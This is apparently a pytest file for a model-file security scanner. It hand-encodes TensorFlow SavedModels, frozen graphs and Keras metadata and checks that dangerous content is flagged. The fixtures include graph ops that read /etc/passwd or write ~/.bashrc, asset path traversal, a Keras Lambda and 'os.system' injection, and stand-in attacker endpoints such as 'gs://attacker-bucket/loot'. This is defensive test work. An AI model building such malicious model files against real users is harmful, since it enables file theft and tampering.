"""TensorFlow SavedModels, frozen GraphDefs, TF1 MetaGraphs and Keras's keras_metadata.pb in the static audit.

Every sample is written here, field by field, with a small protobuf encoder (field numbers from TensorFlow's
saved_model.proto, meta_graph.proto, graph.proto, node_def.proto, function.proto, attr_value.proto,
saved_object_graph.proto and Keras's saved_metadata.proto); nothing is loaded and tensorflow is not needed.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cpu_time import thread_cpu_seconds

from openscope.audit import scan_path
from openscope.audit.blob import Blob
from openscope.audit.engine import detect
from openscope.audit.tf_format import detect as tf_detect


# -- a protobuf encoder -----------------------------------------------------------------------------------
def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def ld(fno: int, payload: bytes) -> bytes:
    """A length-delimited field (a message, a string or bytes)."""
    return varint(fno << 3 | 2) + varint(len(payload)) + payload


def vi(fno: int, n: int) -> bytes:
    return varint(fno << 3) + varint(n)


def st(fno: int, text: str) -> bytes:
    return ld(fno, text.encode())


def attr(key: str, value: bytes) -> bytes:
    """NodeDef.attr (5): a map entry of key (1) and AttrValue (2)."""
    return ld(5, st(1, key) + ld(2, value))


def attr_s(text: str) -> bytes:
    return st(2, text)  # AttrValue.s


def attr_list(*texts: str) -> bytes:
    return ld(1, b"".join(st(2, t) for t in texts))  # AttrValue.list (ListValue.s)


def node(name: str, op: str, *inputs: str, attrs: bytes = b"") -> bytes:
    """NodeDef: name (1), op (2), input (3), device (4), attr (5)."""
    return st(1, name) + st(2, op) + b"".join(st(3, i) for i in inputs) + st(4, "/device:CPU:0") + attrs


def function(name: str, *nodes: bytes) -> bytes:
    """FunctionDef: signature (1, an OpDef whose name is 1), node_def (3), ret (4)."""
    return ld(1, st(1, name) + ld(3, st(1, "output") + vi(3, 1))) + b"".join(ld(3, n) for n in nodes) \
        + ld(4, st(1, "output") + st(2, "identity:output:0"))


def graph(nodes: list[bytes], functions: list[bytes] = ()) -> bytes:  # type: ignore[assignment]
    """GraphDef: node (1), library (2: FunctionDefLibrary.function 1), versions (4: VersionDef.producer 1)."""
    lib = ld(2, b"".join(ld(1, f) for f in functions)) if functions else b""
    return b"".join(ld(1, n) for n in nodes) + lib + ld(4, vi(1, 1645))


SAVER_NODES = [
    node("saver_filename", "Placeholder", attrs=attr("dtype", vi(6, 7))),
    node("StatefulPartitionedCall", "StatefulPartitionedCall", "saver_filename",
         attrs=attr("f", ld(10, st(1, "__inference__traced_save_81")))),
    node("StatefulPartitionedCall_1", "StatefulPartitionedCall", "saver_filename",
         attrs=attr("f", ld(10, st(1, "__inference__traced_restore_95")))),
    node("dense/kernel", "VarHandleOp", attrs=attr("shared_name", attr_s("dense/kernel"))),
]
SAVER_FUNCTIONS = [
    function("__inference__traced_save_81",
             node("StringJoin", "StringJoin", "file_prefix", "Const"),
             node("ShardedFilename", "ShardedFilename", "StringJoin:output:0"),
             node("SaveV2", "SaveV2", "ShardedFilename:filename:0", "SaveV2/tensor_names"),
             node("MergeV2Checkpoints", "MergeV2Checkpoints", "ShardedFilename:filename:0"),
             node("identity", "Identity", "file_prefix")),
    function("__inference__traced_restore_95",
             node("RestoreV2", "RestoreV2", "file_prefix", "RestoreV2/tensor_names"),
             node("AssignVariableOp", "AssignVariableOp", "dense_kernel", "RestoreV2:tensors:0"),
             node("identity", "Identity", "file_prefix")),
    function("__inference_serve_40",
             node("MatMul/ReadVariableOp", "ReadVariableOp", "matmul_readvariableop_resource"),
             node("MatMul", "MatMul", "inputs", "MatMul/ReadVariableOp:value:0"),
             node("identity", "Identity", "MatMul:product:0")),
]


def meta_graph(g: bytes, assets: list[str] = (), objects: list[bytes] = ()) -> bytes:  # type: ignore[assignment]
    """MetaGraphDef: meta_info_def (1: tags 4, tensorflow_version 5), graph_def (2), saver_def (3),
    signature_def (5), asset_file_def (6: filename 2), object_graph_def (7: SavedObjectGraph.nodes 1)."""
    info = ld(1, st(4, "serve") + st(5, "2.15.0") + st(6, "v2.15.0-rc1"))
    saver = ld(3, st(1, "saver_filename:0") + st(2, "StatefulPartitionedCall:0") + vi(4, 1))
    sig = ld(5, st(1, "serving_default") + ld(2, st(3, "tensorflow/serving/predict")))
    asset = b"".join(ld(6, ld(1, st(1, f"asset_path_{i}:0")) + st(2, name)) for i, name in enumerate(assets))
    objs = ld(7, b"".join(ld(1, o) for o in objects)) if objects else b""
    return info + ld(2, g) + saver + sig + asset + objs


def saved_model(*metas: bytes) -> bytes:
    """SavedModel: saved_model_schema_version (1), meta_graphs (2)."""
    return vi(1, 1) + b"".join(ld(2, m) for m in metas)


def user_object(identifier: str, metadata: str = "") -> bytes:
    """SavedObject.user_object (4): SavedUserObject identifier (1), version (2), metadata (3)."""
    return ld(4, st(1, identifier) + ld(2, vi(1, 1)) + (st(3, metadata) if metadata else b""))


def keras_node(node_id: int, path: str, identifier: str, metadata: dict | str) -> bytes:
    """Keras SavedMetadata.nodes (1): node_id (2), node_path (3), identifier (4), metadata (5), version (6)."""
    text = metadata if isinstance(metadata, str) else json.dumps(metadata)
    body = (vi(2, node_id) if node_id else b"") + st(3, path) + st(4, identifier) + st(5, text) + ld(6, vi(1, 1))
    return ld(1, body)


DENSE = {"class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu"}}
LAMBDA = {"class_name": "Lambda", "config": {"name": "evil", "function": {"class_name": "__lambda__", "config": {
    "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA", "defaults": None, "closure": None}}, "function_type": "lambda",
    "module": "__main__"}}


def keras_metadata(*layers: dict) -> bytes:
    model = {"class_name": "Functional", "name": "model", "config": {"name": "model", "layers": list(layers)}}
    out = keras_node(0, "root", "_tf_keras_network", model)
    for i, layer in enumerate(layers, 1):
        out += keras_node(i, f"root.layer-{i}", "_tf_keras_layer", layer)
    return out


def benign_saved_model() -> bytes:
    return saved_model(meta_graph(graph(SAVER_NODES, SAVER_FUNCTIONS), assets=["vocab.txt"],
                                  objects=[user_object("_generic_user_object")]))


def audit(tmp_path: Path, data: bytes, name: str = "saved_model.pb") -> dict:
    p = tmp_path / name
    p.write_bytes(data)
    return scan_path(p).to_json()


def rules(report: dict) -> list[str]:
    return sorted(f["rule"] for f in report["findings"])


# -- benign -----------------------------------------------------------------------------------------------
def test_benign_saved_model_is_recognised_and_clean(tmp_path: Path) -> None:
    """The saver's own SaveV2 / RestoreV2 / MergeV2Checkpoints (every SavedModel has them) are no finding."""
    r = audit(tmp_path, benign_saved_model())
    assert r["files"][0]["format"] == "tensorflow-savedmodel"
    assert r["findings"] == []
    assert r["verdict"] == "clean"


def test_benign_frozen_graph_and_metagraph(tmp_path: Path) -> None:
    frozen = graph([node("input", "Placeholder"), node("w", "Const", attrs=attr("value", ld(8, vi(1, 1)))),
                    node("MatMul", "MatMul", "input", "w"), node("output", "Identity", "MatMul")])
    r = audit(tmp_path, frozen, "frozen_graph.pb")
    assert (r["files"][0]["format"], r["verdict"]) == ("tensorflow-graphdef", "clean")
    r = audit(tmp_path, meta_graph(graph(SAVER_NODES, SAVER_FUNCTIONS)), "model.ckpt.meta")
    assert (r["files"][0]["format"], r["verdict"]) == ("tensorflow-metagraph", "clean")


def test_benign_keras_metadata(tmp_path: Path) -> None:
    r = audit(tmp_path, keras_metadata(DENSE), "keras_metadata.pb")
    assert (r["files"][0]["format"], r["verdict"]) == ("keras-metadata", "clean")


def test_memmapped_immutable_const_and_stderr_print_are_not_reported(tmp_path: Path) -> None:
    """Ops reported only by their attribute: a memmapped graph's own regions, tf.print to stderr."""
    g = graph([node("w", "ImmutableConst", attrs=attr("memory_region_name", attr_s("memmapped_package://w"))),
               node("p", "PrintV2", "msg", attrs=attr("output_stream", attr_s("stderr")))])
    r = audit(tmp_path, g, "graph.pb")
    assert (r["files"][0]["format"], r["findings"]) == ("tensorflow-graphdef", [])


# -- malicious --------------------------------------------------------------------------------------------
def test_readfile_in_a_tf_function_body(tmp_path: Path) -> None:
    """tf.function bodies live in the function library, not the main graph."""
    evil = function("__inference_call_77", node("ReadFile", "ReadFile", "ReadFile/filename"),
                    node("identity", "Identity", "ReadFile:contents:0"))
    r = audit(tmp_path, saved_model(meta_graph(graph(SAVER_NODES, [*SAVER_FUNCTIONS, evil]))))
    assert r["verdict"] == "unsafe"
    [f] = r["findings"]
    assert (f["rule"], f["severity"], f["import"]) == ("tensorflow.file_read", "high", "ReadFile")
    assert "'__inference_call_77'" in f["detail"] and "node 'ReadFile'" in f["detail"]
    assert isinstance(f["offset"], int) and f["offset"] > 0


def test_writefile_in_the_main_graph(tmp_path: Path) -> None:
    nodes = [*SAVER_NODES, node("target", "Const"), node("write", "WriteFile", "target", "payload"),
             node("write_2", "WriteFile", "target", "payload")]
    r = audit(tmp_path, saved_model(meta_graph(graph(nodes, SAVER_FUNCTIONS))))
    [f] = r["findings"]
    assert (f["rule"], f["severity"]) == ("tensorflow.file_write", "high")
    assert "the main graph" in f["detail"] and "1 more" in f["detail"]
    assert r["verdict"] == "unsafe"


@pytest.mark.parametrize(("op", "rule"), [
    ("PyFunc", "tensorflow.python_call"), ("EagerPyFunc", "tensorflow.python_call"),
    ("PyFuncStateless", "tensorflow.python_call"), ("MatchingFiles", "tensorflow.file_read"),
    ("FixedLengthRecordDatasetV2", "tensorflow.file_read"), ("CSVDatasetV2", "tensorflow.file_read"),
    ("WholeFileReaderV2", "tensorflow.file_read"), ("SaveDatasetV2", "tensorflow.file_write"),
    ("DataServiceDatasetV4", "tensorflow.network"), ("RpcClient", "tensorflow.network"),
    ("DistributedSave", "tensorflow.network"),
])
def test_listed_ops(tmp_path: Path, op: str, rule: str) -> None:
    g = graph([node("x", "Placeholder"), node("bad", op, "x")])
    r = audit(tmp_path, g, "frozen.pb")
    assert rules(r) == [rule]
    assert r["verdict"] == "unsafe"


def test_ops_reported_by_their_attribute(tmp_path: Path) -> None:
    g = graph([node("leak", "ImmutableConst", attrs=attr("memory_region_name", attr_s("/etc/passwd"))),
               node("p", "PrintV2", "msg", attrs=attr("output_stream", attr_s("file:///home/u/.bashrc"))),
               node("dbg", "DebugIdentityV2", "x", attrs=attr("debug_urls", attr_list("grpc://evil:8000")))])
    r = audit(tmp_path, g, "graph.pb")
    assert rules(r) == ["tensorflow.debug_output", "tensorflow.file_read", "tensorflow.file_write"]
    details = " ".join(f["detail"] for f in r["findings"])
    assert "/etc/passwd" in details and ".bashrc" in details and "grpc://evil:8000" in details


def test_asset_outside_the_assets_folder(tmp_path: Path) -> None:
    for name in ("../../../etc/passwd", "/etc/shadow", "C:\\Windows\\win.ini"):
        r = audit(tmp_path, saved_model(meta_graph(graph(SAVER_NODES, SAVER_FUNCTIONS), assets=[name])))
        assert rules(r) == ["tensorflow.asset.path_traversal"], name
        assert r["verdict"] == "unsafe"


def test_lambda_in_keras_metadata(tmp_path: Path) -> None:
    r = audit(tmp_path, keras_metadata(DENSE, LAMBDA), "keras_metadata.pb")
    assert r["files"][0]["format"] == "keras-metadata"
    assert "keras.lambda" in rules(r) and r["verdict"] == "unsafe"


def test_lambda_after_foreign_nodes_in_keras_metadata(tmp_path: Path) -> None:
    """Keras skips nodes of other identifiers; nodes first that are not Keras's must not hide the layer."""
    data = b"".join(keras_node(i, f"root.x{i}", "other_object", "{}") for i in range(1, 20)) \
        + keras_node(20, "root.layer-1", "_tf_keras_layer", LAMBDA)
    r = audit(tmp_path, data, "keras_metadata.pb")
    assert "keras.lambda" in rules(r)


def test_keras_module_injection_in_metadata(tmp_path: Path) -> None:
    evil = {"class_name": "system", "module": "os", "config": {}}
    r = audit(tmp_path, keras_metadata(DENSE, evil), "keras_metadata.pb")
    assert "keras.module_injection" in rules(r)


def test_lambda_in_saved_model_object_graph(tmp_path: Path) -> None:
    """TF 2.0-2.4 kept the Keras metadata in the SavedModel's SavedUserObject.metadata (field 3)."""
    objects = [user_object("_tf_keras_network", json.dumps({"class_name": "Sequential", "config": {
        "layers": [DENSE, LAMBDA]}}))]
    r = audit(tmp_path, saved_model(meta_graph(graph(SAVER_NODES, SAVER_FUNCTIONS), objects=objects)))
    assert "keras.lambda" in rules(r)


def test_keras_metadata_that_is_not_json(tmp_path: Path) -> None:
    data = keras_node(0, "root", "_tf_keras_layer", '{"class_name": "Lambda", "config": {')
    r = audit(tmp_path, data, "keras_metadata.pb")
    assert rules(r) == ["keras.lambda", "malformed.tensorflow.keras_metadata"]


def test_hidden_behind_lookalike_magic(tmp_path: Path) -> None:
    """A graph whose bytes spell another format's magic further in (tar's 'ustar' at 257, HDF5 at 512, a
    safetensors '{' at byte 8) is still read as the graph."""
    pad = "A" * 600
    g = graph([node("x" + pad, "Placeholder"), node("r", "ReadFile", "x")])
    for off, magic in ((257, b"ustar"), (512, b"\x89HDF\r\n\x1a\n")):
        assert g[off:off + len(magic)] == b"A" * len(magic)  # inside the node name
        data = g[:off] + magic + g[off + len(magic):]
        r = audit(tmp_path, data, "frozen.pb")
        assert (r["files"][0]["format"], rules(r)) == ("tensorflow-graphdef", ["tensorflow.file_read"]), magic
    g = graph([node("xxxx{", "Placeholder"), node("r", "ReadFile", "x")])
    assert g[8:9] == b"{"
    r = audit(tmp_path, g, "frozen.pb")
    assert (r["files"][0]["format"], rules(r)) == ("tensorflow-graphdef", ["tensorflow.file_read"])


def test_unknown_fields_do_not_hide_the_graph(tmp_path: Path) -> None:
    """Protobuf parsers keep unknown fields (and known numbers with another wire type) as unknown: the graph
    still loads, so it is still read."""
    g = vi(3, 27) + ld(99, b"junk") + vi(1, 5) + graph([node("r", "ReadFile", "x")])
    r = audit(tmp_path, g, "frozen.pb")
    assert rules(r) == ["tensorflow.file_read"]
    # an unknown field first hides nothing either, even when it spells another format's magic (field 15 = 1 is
    # zlib's 0x78 0x01; a field 8 of 90 bytes starting 'h9' is bzip2's 'BZh9'; a fixed32 field 11 is ']\x00')
    evil = function("__inference_call_1", node("w", "WriteFile", "p", "d"))
    for first in (vi(15, 1), ld(8, b"h9" + b"x" * 88), b"]\0\0\0\0", st(9, "x"), varint(100 << 3 | 5) + b"\0" * 4):
        r = audit(tmp_path, first + saved_model(meta_graph(graph(SAVER_NODES, [evil]))))
        assert (r["files"][0]["format"], rules(r)) == ("tensorflow-savedmodel", ["tensorflow.file_write"]), first
        r = audit(tmp_path, first + keras_metadata(LAMBDA), "keras_metadata.pb")
        assert "keras.lambda" in rules(r), first


def test_saved_model_folder(tmp_path: Path) -> None:
    """A SavedModel folder as tf.saved_model.save / Keras 2 write it."""
    root = tmp_path / "model"
    (root / "variables").mkdir(parents=True)
    (root / "assets").mkdir()
    evil = function("__inference_call_5", node("WriteFile", "WriteFile", "path", "data"))
    (root / "saved_model.pb").write_bytes(saved_model(meta_graph(graph(SAVER_NODES, [*SAVER_FUNCTIONS, evil]))))
    (root / "keras_metadata.pb").write_bytes(keras_metadata(DENSE, LAMBDA))
    (root / "fingerprint.pb").write_bytes(vi(1, 2**63 + 5) + vi(2, 77) + vi(3, 88) + ld(6, vi(1, 1)))
    (root / "variables" / "variables.index").write_bytes(b"\x00\x00\x00\x00" + bytes(range(40)))
    (root / "variables" / "variables.data-00000-of-00001").write_bytes(bytes(4 * 16))
    (root / "assets" / "vocab.txt").write_text("a\nb\n")
    r = scan_path(root).to_json()
    formats = {f["file"]: f["format"] for f in r["files"]}
    assert formats["saved_model.pb"] == "tensorflow-savedmodel"
    assert formats["keras_metadata.pb"] == "keras-metadata"
    assert formats["fingerprint.pb"] == "other"
    by_file = {(f["file"], f["rule"]) for f in r["findings"]}
    assert ("saved_model.pb", "tensorflow.file_write") in by_file
    assert ("keras_metadata.pb", "keras.lambda") in by_file
    assert r["verdict"] == "unsafe"


# -- malformed and hostile --------------------------------------------------------------------------------
def test_truncated_saved_model_is_malformed_and_still_read(tmp_path: Path) -> None:
    """Cut inside a later function: what came before the cut is still judged, and the file is malformed."""
    evil = function("__inference_call_9", node("r", "ReadFile", "x"))
    data = saved_model(meta_graph(graph(SAVER_NODES, [evil, *SAVER_FUNCTIONS])))
    r = audit(tmp_path, data[: len(data) - 60])
    assert r["files"][0]["format"] == "tensorflow-savedmodel"
    assert rules(r) == ["malformed.tensorflow", "tensorflow.file_read"]


def test_truncated_benign_saved_model_is_not_clean(tmp_path: Path) -> None:
    data = benign_saved_model()
    r = audit(tmp_path, data[: len(data) // 2])
    assert r["files"][0]["format"] == "tensorflow-savedmodel"
    assert rules(r) == ["malformed.tensorflow"] and r["verdict"] == "review"


def test_wrong_wire_type_and_length_past_the_end(tmp_path: Path) -> None:
    g = graph(SAVER_NODES, SAVER_FUNCTIONS)
    bad_wt = saved_model(meta_graph(g + varint(9 << 3 | 7)))  # wire type 7 does not exist
    r = audit(tmp_path, bad_wt)
    assert r["files"][0]["format"] == "tensorflow-savedmodel" and rules(r) == ["malformed.tensorflow"]
    past = saved_model(meta_graph(g + ld(1, node("r", "ReadFile", "x"))[:-1] + b"\x1a\x7f"))
    r = audit(tmp_path, past)
    assert "malformed.tensorflow" in rules(r) and r["verdict"] != "clean"


def test_deep_nesting_is_skipped_not_followed(tmp_path: Path) -> None:
    """An attribute nested 20,000 levels deep (NameAttrList.attr -> AttrValue.func -> ...) costs one skip: the
    walk enters only the messages it reads, never by recursion."""
    inner = attr_s("x")
    for _ in range(20_000):
        inner = ld(10, st(1, "f") + ld(2, st(1, "k") + ld(2, inner)))
    g = graph([node("deep", "PartitionedCall", attrs=attr("f", inner)), node("r", "ReadFile", "x")])
    t = thread_cpu_seconds()
    r = audit(tmp_path, g, "frozen.pb")
    assert thread_cpu_seconds() - t < 5
    assert rules(r) == ["tensorflow.file_read"]


def test_huge_declared_length_allocates_nothing(tmp_path: Path) -> None:
    data = vi(1, 1) + varint(2 << 3 | 2) + varint(2**62) + ld(2, graph([node("r", "ReadFile", "x")]))
    r = audit(tmp_path, data)
    assert r["verdict"] != "clean"


# -- other files stay what they were ------------------------------------------------------------------------
@pytest.mark.parametrize("data", [
    # a sentencepiece ModelProto: pieces (1: piece 1, score 2 float, type 3), trainer_spec (2), normalizer_spec (3)
    b"".join(ld(1, st(1, p) + b"\x15\x00\x00\x80\xbf" + vi(3, 1)) for p in ("<unk>", "<s>", "the", "Ġa"))
    + ld(2, st(1, "corpus.txt") + st(7, "spm") + vi(3, 1)) + ld(3, st(1, "nmt_nfkc") + vi(3, 1)),
    # a SavedModel fingerprint.pb (uint64s and a VersionDef)
    vi(1, 2**63 + 5) + vi(2, 77) + vi(3, 88) + vi(4, 99) + vi(5, 11) + ld(6, vi(1, 1)),
    b"\n\nplain text that starts with two newlines\n",
    b"\x08\x01\x12\x05hello",
], ids=["sentencepiece", "fingerprint", "text", "short"])
def test_other_protobufs_and_text_are_not_tensorflow(data: bytes) -> None:
    assert tf_detect(Blob(data, 0, len(data), "x")) is None


def test_onnx_is_still_onnx() -> None:
    """An ONNX ModelProto (ir_version 1, producer 2, graph 7 with a node, opset 8) keeps its format."""
    onnx = vi(1, 8) + st(2, "pytorch") + ld(7, ld(1, st(1, "x") + st(2, "y") + st(3, "n") + st(4, "Relu"))) \
        + ld(8, st(1, "") + vi(2, 17))
    assert detect(Blob(onnx, 0, len(onnx), "m.onnx")) == "onnx"


# -- paths traced to constants ------------------------------------------------------------------------------
def const(name: str, value: str) -> bytes:
    """A string Const: attr value = AttrValue.tensor (8), TensorProto dtype (1) DT_STRING (7), string_val (8)."""
    return node(name, "Const", attrs=attr("value", ld(8, vi(1, 7) + ld(2, b"") + st(8, value))))


def test_saver_ops_on_a_constant_path_outside_the_model(tmp_path: Path) -> None:
    """Save / SaveSlices / SaveV2 write where their first input says: a constant of the graph naming a place
    outside the model is the file's own choice (the TensorAbuse write primitive)."""
    g = graph([const("where", "/home/user/.bashrc"), node("hop", "Identity", "where:0"),
               node("save", "SaveSlices", "hop", "names", "slices", "data"),
               const("remote", "gs://attacker-bucket/loot"), node("restore", "RestoreV2", "remote", "n", "s")])
    r = audit(tmp_path, g, "graph.pb")
    assert rules(r) == ["tensorflow.constant_path", "tensorflow.constant_path"]
    details = " ".join(f["detail"] for f in r["findings"])
    assert "'/home/user/.bashrc'" in details and "gs://attacker-bucket/loot" in details
    assert r["verdict"] == "unsafe"


def test_saver_constants_an_exporter_writes_are_not_reported(tmp_path: Path) -> None:
    """TF1's saver takes its prefix from `save/Const` ('model', replaced by the loader), and a TF1 asset
    constant holds the export-time absolute path that the loader replaces (bound by asset_file_def)."""
    nodes = [const("save/Const", "model"), node("save/filename", "PlaceholderWithDefault", "save/Const"),
             node("save/SaveV2", "SaveV2", "save/filename", "save/SaveV2/tensor_names"),
             const("asset_path_0", "/tmp/export/assets/vocab.txt"),  # asset_file_def binds asset_path_0:0
             node("table_init", "InitializeTableFromTextFileV2", "hash_table", "asset_path_0")]
    r = audit(tmp_path, saved_model(meta_graph(graph(nodes, SAVER_FUNCTIONS), assets=["vocab.txt"])))
    assert (r["files"][0]["format"], r["findings"]) == ("tensorflow-savedmodel", [])
    # the same table read from an unbound constant outside the model is reported
    nodes[-2] = const("vocab", "/etc/passwd")
    nodes[-1] = node("table_init", "InitializeTableFromTextFileV2", "hash_table", "vocab")
    r = audit(tmp_path, saved_model(meta_graph(graph(nodes, SAVER_FUNCTIONS))))
    assert rules(r) == ["tensorflow.constant_path"]


def test_reported_op_shows_the_constant_it_reads(tmp_path: Path) -> None:
    evil = function("__inference_call_3", const("Const", "/etc/passwd"), node("ReadFile", "ReadFile", "Const:output:0"))
    r = audit(tmp_path, saved_model(meta_graph(graph(SAVER_NODES, [*SAVER_FUNCTIONS, evil]))))
    [f] = r["findings"]
    assert f["rule"] == "tensorflow.file_read" and "the constant '/etc/passwd'" in f["detail"]


def test_mutated_files_never_break_the_scan() -> None:
    """Seeded random mutations (bytes changed, cut, inserted, truncated) of a SavedModel with a Lambda in its
    object graph and of a keras_metadata.pb: every one is scanned without an exception, quickly."""
    import random

    from openscope.audit.engine import Engine

    evil = function("__inference_call_77", node("ReadFile", "ReadFile", "ReadFile/filename"))
    objects = [user_object("_tf_keras_network", json.dumps({"class_name": "Sequential", "config": {
        "layers": [DENSE, LAMBDA]}}))]
    bases = [saved_model(meta_graph(graph(SAVER_NODES, [*SAVER_FUNCTIONS, evil]), objects=objects)),
             keras_metadata(DENSE, LAMBDA)]
    rng = random.Random(20261130)
    t = thread_cpu_seconds()
    for _ in range(400):
        data = mutated(rng, rng.choice(bases), lambda: rng.randrange(256), changed=0.5, cut=0.7)
        Engine().scan_blob(Blob(data, 0, len(data), "f"))
    assert thread_cpu_seconds() - t < 20


def mutated(rng: random.Random, data: bytes, new_byte: Callable[[], int], *, changed: float, cut: float) -> bytes:
    """``data`` with 1-4 seeded mutations: a byte changed to ``new_byte()`` (below ``changed``), a run cut out
    (below ``cut``), random bytes inserted (below 0.85), or the rest truncated."""
    d = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        p, k = rng.randrange(len(d)), rng.random()
        if k < changed:
            d[p] = new_byte()
        elif k < cut:
            del d[p:p + rng.randint(1, 20)]
        elif k < 0.85:
            d[p:p] = rng.randbytes(rng.randint(1, 10))
        else:
            del d[p:]
    return bytes(d)


def scan_mutations(path: Path, rng: random.Random, seeds: list[bytes], n: int, counts: Callable[[Any], bool], *,
                   changed: float, cut: float, seconds: float) -> int:
    """Scan ``n`` seeded mutations of ``seeds`` (:func:`mutated`, random new bytes) written at ``path``: no scan
    may end in a scanner error, all of them within ``seconds`` (a hang bound, not a speed figure). Returns how
    many reports ``counts`` holds for, so a caller can check the mutations still reach what it tests."""
    from openscope.audit import scan_path

    hits = 0
    t0 = thread_cpu_seconds()
    for _ in range(n):
        try:
            data = mutated(rng, rng.choice(seeds), lambda: rng.randrange(256), changed=changed, cut=cut)
        except ValueError:  # the helper cut the whole sample before its next mutation: nothing to scan
            continue
        if not data:
            continue
        path.write_bytes(data)
        r = scan_path(path)
        assert not any(f.rule == "incomplete.scanner_error" for f in r.findings), (data[:80], r.findings)
        hits += bool(counts(r))
    assert thread_cpu_seconds() - t0 < seconds
    return hits


def native_detail(fragment: str) -> Callable[[Any], bool]:
    """For :func:`scan_mutations`: a report with a ``native.code`` finding whose detail says ``fragment``."""
    return lambda r: any(f.rule == "native.code" and fragment in f.detail for f in r.findings)


def test_formats_with_a_protobuf_looking_first_byte_keep_their_format() -> None:
    """A safetensors header length whose low byte is a key TensorFlow messages start with (0x0a, 0x12) and a
    zlib stream stay what they are."""
    import struct
    import zlib

    for low in (0x0A, 0x12):
        hdr = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
        hdr += b" " * ((low - len(hdr)) % 256)
        data = struct.pack("<Q", len(hdr)) + hdr + bytes(8)
        assert data[0] in (0x0A, 0x12)
        assert detect(Blob(data, 0, len(data), "m.safetensors")) == "safetensors"
    z = zlib.compress(b"\x80\x04N." * 100)
    assert detect(Blob(z, 0, len(z), "x")) == "zlib"


def test_more_messages_than_the_bound_is_incomplete_never_clean(tmp_path: Path) -> None:
    """Two million empty nodes after real ones, and the payload after them: the walk stops at its bound and
    says so (4 MB of input; the verdict is incomplete, not clean)."""
    g = graph([node("x", "Placeholder"), node("y", "Identity", "x")]) + b"\x0a\x00" * 2_000_000 \
        + ld(1, node("r", "ReadFile", "x"))
    r = audit(tmp_path, g, "frozen.pb")
    assert r["files"][0]["format"] == "tensorflow-graphdef"
    assert rules(r) == ["incomplete.tensorflow_size"] and r["verdict"] == "incomplete"


def test_padding_past_the_trial_bound_is_incomplete_not_other(tmp_path: Path) -> None:
    """A million unknown fields (which the loader skips), no two alike in a row, before a SavedModel: the trial
    stops at its bound without evidence, and the file is reported as not judged rather than listed as `other`."""
    evil = function("__inference_call_1", node("w", "WriteFile", "p", "d"))
    data = (vi(15, 1) + vi(14, 2)) * 500_001 + saved_model(meta_graph(graph(SAVER_NODES, [evil])))
    r = audit(tmp_path, data)
    assert (r["files"][0]["format"], rules(r), r["verdict"]) == ("protobuf", ["incomplete.protobuf_trial"],
                                                                 "incomplete")


def test_padding_of_one_repeated_field_is_jumped_and_the_graph_after_it_judged(tmp_path: Path) -> None:
    """Two million copies of one unknown field before a SavedModel: the copies are jumped over in blocks and the
    graph behind them is found and judged."""
    evil = function("__inference_call_1", node("w", "WriteFile", "p", "d"))
    for pad in (vi(15, 1), st(9, "x" * 40), b"  "):
        r = audit(tmp_path, pad * 2_000_000 + saved_model(meta_graph(graph(SAVER_NODES, [evil]))))
        assert (r["files"][0]["format"], rules(r)) == ("tensorflow-savedmodel", ["tensorflow.file_write"]), pad


@pytest.mark.parametrize("text", [b" " * 3_000_000, b"x" * 5_000_000, b"\n" * 3_000_000, b"xy" * 2_000_000],
                         ids=["spaces", "one-letter", "newlines", "two-letters"])
def test_degenerate_text_is_other_and_clean(tmp_path: Path, text: bytes) -> None:
    """Megabytes of one repeated character are valid protobuf all along (a space is field 4 = 32): a benign
    file, listed as `other`, clean, not reported as a protobuf the audit could not judge."""
    r = audit(tmp_path, text, "padding.txt")
    assert (r["files"][0]["format"], rules(r), r["verdict"]) == ("other", [], "clean")


def test_sarif_names_every_tensorflow_rule(tmp_path: Path, cli) -> None:
    """Each TensorFlow rule reaches SARIF with a description of its own (code-scanning tools show it), not
    its bare id: every rule rules.yml declares, and a WriteFile graph end to end through the CLI."""
    import re

    from openscope.audit import sarif

    declared = set(re.findall(r"rule: *([a-z_.]+)", (Path(sarif.__file__).parent / "rules.yml").read_text()))
    assert {r for r in declared if r.startswith("tensorflow.")} <= set(sarif.RULE_TEXT)
    assert "tensorflow.asset.path_traversal" in sarif.RULE_TEXT
    evil = function("__inference_call_1", node("w", "WriteFile", "p", "d"))
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "saved_model.pb").write_bytes(saved_model(meta_graph(graph(SAVER_NODES, [evil]))))
    res = cli("audit", str(tmp_path / "m"), "--json", "--sarif", str(tmp_path / "r.sarif"))
    assert res.code == 1, res.stderr
    doc = json.loads((tmp_path / "r.sarif").read_text())
    texts = {r["id"]: r["shortDescription"]["text"] for r in doc["runs"][0]["tool"]["driver"]["rules"]}
    assert texts == {"tensorflow.file_write": "TensorFlow graph writes files when run"}
